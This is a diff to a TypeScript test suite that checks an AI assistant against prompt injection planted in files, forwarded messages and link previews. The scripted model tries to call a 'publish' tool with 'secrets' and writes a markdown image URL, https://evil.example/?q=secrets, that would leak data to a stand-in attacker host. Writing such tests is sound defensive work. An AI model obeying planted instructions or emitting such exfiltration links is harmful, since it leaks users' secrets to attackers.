@@ -33,6 +33,7 @@ const places: Readonly<Record<string, Place>> = {
   },
   "a file of another person in the thread": {
     question: { files: [{ ...file, author: "Bob Carter", isEarlier: true }] },
+    reads: true,
   },
   "W2: a forwarded message": { question: { text: "", besides: { others: [forwarded] } }, bySource: true },
   "W2: the preview of a link": { question: { besides: { others: [preview] } } },
@@ -64,8 +65,10 @@ async function hijacked({ question, description, reads = false, approval }: Plac
     { name: "publish", sideEffects: true, description: description ?? "Publishes a text.", approval },
   );
   const read = toolThat(async () => ({ text: payload }), { name: "read" });
+  const earlier = question?.files?.find(({ isEarlier }) => isEarlier)?.name;
   const attack = [call("publish", { text: "secrets" }), finish("tool-calls")];
-  const first = reads ? [[call("read", {}), finish("tool-calls")]] : [];
+  const reading = earlier === undefined ? call("read", {}) : call("read_file", { name: earlier });
+  const first = reads ? [[reading, finish("tool-calls")]] : [];
   const model = scriptedModel(...first, attack, [...text("See ![x](https://evil.example/?q=secrets)"), finish()]);
   const asked = await askAssistant(model, { question: { ...question, tools: [publish, read] } });
   return { left, model, asked, attacked: model.calls[reads ? 1 : 0] };
@@ -74,7 +77,11 @@ async function hijacked({ question, description, reads = false, approval }: Plac
 test.each(Object.entries(places))("G4: %s causes no call with side effects", async (_place, place) => {
   const { left, attacked, asked, model } = await hijacked(place);
   expect(left).toEqual([]);
-  expect(attacked?.tools?.map(({ name }) => name)).toEqual(["make_file", "read"]);
+  expect(attacked?.tools?.map(({ name }) => name).filter((name) => name !== "read_file")).toEqual([
+    "make_file",
+    "read",
+  ]);
+  expect(JSON.stringify(attacked?.prompt)).toContain(JSON.stringify(payload).slice(1, -1));
   expect(JSON.stringify(attacked?.prompt[0])).toMatch(/not offered now.*publish/);
   expect(asked.answer?.text).toContain("evil.example");
   expect(model.calls.length).toBeGreaterThan(1);
